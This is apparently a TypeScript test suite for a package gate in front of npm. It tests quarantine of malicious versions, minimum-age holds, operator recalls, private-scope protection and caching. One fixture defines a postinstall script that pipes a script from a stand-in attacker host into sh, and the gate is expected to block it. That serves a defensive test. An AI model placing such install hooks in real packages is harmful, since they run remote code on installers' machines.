import { afterEach, describe, expect, it } from 'vitest'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeNpm } from './fakes/npm.ts'
import { startGate } from './harness/gate.ts'
import type { Gate, GateOptions } from './harness/gate.ts'

const open: { close(): Promise<void> }[] = []
afterEach(async () => {
  for (const one of open.splice(0).reverse()) await one.close()
})

const HOUR = 3_600_000
const LOCAL = { headers: { accept: 'application/vnd.npm.install-v1+json' } }
const BAD = { scripts: { postinstall: 'curl -s http://files.attacker.example/x.sh | sh' } }

async function gateTo(npm: FakeNpm, options: GateOptions = {}): Promise<Gate> {
  const gate = await startGate({ sources: { npm: { url: npm.url, sumdb: null } }, ...options })
  open.push(gate)
  return gate
}

async function fake(...versions: Parameters<FakeNpm['addVersion']>[0][]): Promise<FakeNpm> {
  const npm = await startFakeNpm(versions)
  open.push(npm)
  return npm
}

const packument = async (gate: Gate, name: string) => {
  const response = await fetch(`${gate.npm}${name}`, LOCAL)
  return { status: response.status, body: await response.json() as { versions: Record<string, { dist: { tarball: string } }>; 'dist-tags': Record<string, string>; error?: string } }
}
const traced = async (gate: Gate, name: string, kind: 'served' | 'denied' | 'index' | 'decided') =>
  (await gate.app.operator.trace({ ecosystem: 'npm', name }, { kinds: [kind] })).lines.map(({ entry }) => entry)

describe('one package, from request to ledger', () => {
  it('is listed, fetched once, judged once, served unchanged, and stands in the ledger', async () => {
    const npm = await fake({ name: 'up', version: '1.0.0' })
    const gate = await gateTo(npm)
    const { body } = await packument(gate, 'up')
    const url = body.versions['1.0.0']?.dist.tarball as string
    expect(url).toBe(`${gate.npm}up/-/up-1.0.0.tgz`)

    const answers = await Promise.all(Array.from({ length: 100 }, () => fetch(url).then(async (response) => ({ status: response.status, bytes: Buffer.from(await response.arrayBuffer()) }))))
    expect(answers.every(({ status, bytes }) => status === 200 && bytes.equals(npm.tarball('up', '1.0.0')))).toBe(true)
    expect(npm.count(npm.tarballPath('up', '1.0.0'))).toBe(1)
    expect(npm.count('/up')).toBe(1)
    expect(await traced(gate, 'up', 'decided')).toHaveLength(1)
    expect(await traced(gate, 'up', 'served')).toHaveLength(100)
    expect(await traced(gate, 'up', 'index')).toHaveLength(1)
    expect((await gate.app.operator.verifyLedger()).ok).toBe(true)
  })

  it('is not served when it is malicious, and the range finds a safe version next time', async () => {
    const npm = await fake({ name: 'up', version: '1.0.0' }, { name: 'up', version: '1.0.1', manifest: BAD })
    const gate = await gateTo(npm)
    expect((await packument(gate, 'up')).body['dist-tags']['latest']).toBe('1.0.1')
    const refused = await fetch(`${gate.npm}up/-/up-1.0.1.tgz`)
    expect(refused.status).toBe(403)
    const body = await refused.json() as { error: string }
    expect(body.error).toContain('1.0.1')
    expect(body.error).toMatch(/\/packages\/npm\/up/)
    const after = await packument(gate, 'up')
    expect(Object.keys(after.body.versions)).toEqual(['1.0.0'])
    expect(after.body['dist-tags']['latest']).toBe('1.0.0')
    expect(await traced(gate, 'up', 'denied')).toMatchObject([{ version: '1.0.1', action: 'quarantine', reason: 'malicious' }])
  })

  it('is not even fetched while it is too young, and comes of age by itself', async () => {
    let now = Date.parse('2026-01-02T12:00:00Z')
    const npm = await fake({ name: 'up', version: '1.0.0' }, { name: 'up', version: '1.1.0', publishedAt: new Date('2026-01-02T00:00:00Z') })
    const gate = await gateTo(npm, { policy: { minimumAge: { npm: 24 * HOUR, pypi: 0, go: 0 } }, clock: { now: () => new Date(now) }, limits: { fresh: 100 * HOUR } })
    expect(Object.keys((await packument(gate, 'up')).body.versions)).toEqual(['1.0.0'])
    expect((await fetch(`${gate.npm}up/-/up-1.1.0.tgz`)).status).toBe(403)
    expect(npm.count(npm.tarballPath('up', '1.1.0'))).toBe(0)
    now += 13 * HOUR
    expect(Object.keys((await packument(gate, 'up')).body.versions)).toEqual(['1.0.0', '1.1.0'])
    expect((await fetch(`${gate.npm}up/-/up-1.1.0.tgz`)).status).toBe(200)
  })

  it('asks for the complete document only when something may be young', async () => {
    const npm = await fake({ name: 'old', version: '1.0.0' }, { name: 'new', version: '1.0.0' }, { name: 'new', version: '1.1.0', publishedAt: new Date() })
    const gate = await gateTo(npm, { policy: { minimumAge: { npm: 24 * HOUR, pypi: 0, go: 0 } } })
    await packument(gate, 'old')
    await packument(gate, 'new')
    const asked = (path: string): number => npm.requests.filter((request) => request.path === path).length
    expect([asked('/old'), asked('/new')]).toEqual([1, 2])
  })

  it('follows a person at once: hold, release, recall', async () => {
    const npm = await fake({ name: 'up', version: '1.0.0' }, { name: 'up', version: '1.0.1' })
    const gate = await gateTo(npm)
    const url = `${gate.npm}up/-/up-1.0.1.tgz`
    expect((await fetch(url)).status).toBe(200)
    const say = (action: 'hold' | 'release' | 'recall') => gate.app.operator.order({
      ecosystem: 'npm', name: 'up', version: '1.0.1', digest: null, action, because: 'looking into it', by: 'ann', expiresAt: null,
    })
    await say('hold')
    expect((await fetch(url)).status).toBe(403)
    expect(Object.keys((await packument(gate, 'up')).body.versions)).toEqual(['1.0.0'])
    await say('release')
    expect((await fetch(url)).status).toBe(200)
    expect(Object.keys((await packument(gate, 'up')).body.versions)).toEqual(['1.0.0', '1.0.1'])
    await say('recall')
    expect((await fetch(url)).status).toBe(403)
    expect(await traced(gate, 'up', 'denied')).toHaveLength(2)
  })

  it('takes a new policy for index documents and bytes alike', async () => {
    const npm = await fake({ name: 'up', version: '1.0.0' })
    const gate = await gateTo(npm)
    const url = `${gate.npm}up/-/up-1.0.0.tgz`
    expect([(await packument(gate, 'up')).status, (await fetch(url)).status]).toEqual([200, 200])
    const policy = gate.app.context.policy()
    await gate.app.setPolicy({ ...policy, id: 'stricter', deny: [{ ecosystem: 'npm', name: 'up', versions: [], lifts: [], because: 'not here', expires: null }] })
    expect([(await packument(gate, 'up')).status, (await fetch(url)).status]).toEqual([403, 403])
    await gate.app.setPolicy(policy)
    expect([(await packument(gate, 'up')).status, (await fetch(url)).status]).toEqual([200, 200])
  })

  it('only watches in observe mode, and says what it would have done', async () => {
    const npm = await fake({ name: 'up', version: '1.0.1', manifest: BAD })
    const gate = await gateTo(npm, { policy: { mode: 'observe' } })
    expect((await fetch(`${gate.npm}up/-/up-1.0.1.tgz`)).status).toBe(200)
    expect((await traced(gate, 'up', 'served'))[0]?.would).toMatchObject({ action: 'quarantine', reason: 'malicious' })
  })

  it('does not keep anybody waiting for a verdict in observe mode', async () => {
    const npm = await fake({ name: 'up', version: '1.0.0' })
    const gate = await gateTo(npm, { policy: { mode: 'observe' }, limits: { patience: 0 } })
    expect((await fetch(`${gate.npm}up/-/up-1.0.0.tgz`)).status).toBe(200)
    expect((await traced(gate, 'up', 'served'))[0]?.would).toMatchObject({ action: 'hold', reason: 'examining' })
    await expect.poll(() => traced(gate, 'up', 'decided')).toHaveLength(1)
    expect(npm.count(npm.tarballPath('up', '1.0.0'))).toBe(1)
  })

  it('never asks the public upstream for a private name', async () => {
    const npm = await fake({ name: '@acme/core', version: '9.9.9' }, { name: 'up', version: '1.0.0' })
    const own = await fake({ name: '@acme/tools', version: '1.0.0' })
    const gate = await gateTo(npm, {
      origins: [own.url],
      policy: { private: [{ ecosystem: 'npm', pattern: '@acme/tools', registry: own.url }, { ecosystem: 'npm', pattern: '@acme/*', registry: null }] },
    })
    expect((await packument(gate, '@acme%2fcore')).status).toBe(403)
    expect((await fetch(`${gate.npm}@acme/core/-/core-9.9.9.tgz`)).status).toBe(403)
    expect((await packument(gate, '@acme%2ftools')).status).toBe(200)
    await own.close()
    open.splice(open.indexOf(own), 1)
    expect((await fetch(`${gate.npm}@acme/tools/-/tools-1.0.0.tgz`)).status).not.toBe(200)
    expect(npm.requests).toEqual([])
  })

  it('serves ranges, HEAD and 304, and records only what was delivered', async () => {
    const npm = await fake({ name: 'up', version: '1.0.0' })
    const gate = await gateTo(npm)
    const url = `${gate.npm}up/-/up-1.0.0.tgz`
    const whole = npm.tarball('up', '1.0.0')
    const head = await fetch(url, { method: 'HEAD' })
    expect([head.status, head.headers.get('content-length')]).toEqual([200, String(whole.byteLength)])
    const part = await fetch(url, { headers: { range: 'bytes=10-19' } })
    expect([part.status, part.headers.get('content-range')]).toEqual([206, `bytes 10-19/${whole.byteLength}`])
    expect(Buffer.from(await part.arrayBuffer())).toEqual(whole.subarray(10, 20))
    expect((await fetch(url, { headers: { range: `bytes=${whole.byteLength}-` } })).status).toBe(416)
    expect((await fetch(url, { headers: { 'if-none-match': head.headers.get('etag') as string } })).status).toBe(304)
    expect((await traced(gate, 'up', 'served')).map(({ range }) => range ?? 'whole')).toEqual(['10-19'])
  })

  it('tells a client to come back when examining takes longer than it waits, and goes on', async () => {
    const npm = await fake({ name: 'up', version: '1.0.0' })
    npm.behaviour.set(npm.tarballPath('up', '1.0.0'), { delay: 400 })
    const gate = await gateTo(npm, { limits: { patience: 50 } })
    const first = await fetch(`${gate.npm}up/-/up-1.0.0.tgz`)
    expect([first.status, first.statusText]).toEqual([403, expect.stringMatching(/being examined, try again/)])
    await expect.poll(async () => (await fetch(`${gate.npm}up/-/up-1.0.0.tgz`)).status).toBe(200)
    expect(npm.count(npm.tarballPath('up', '1.0.0'))).toBe(1)
  })
})
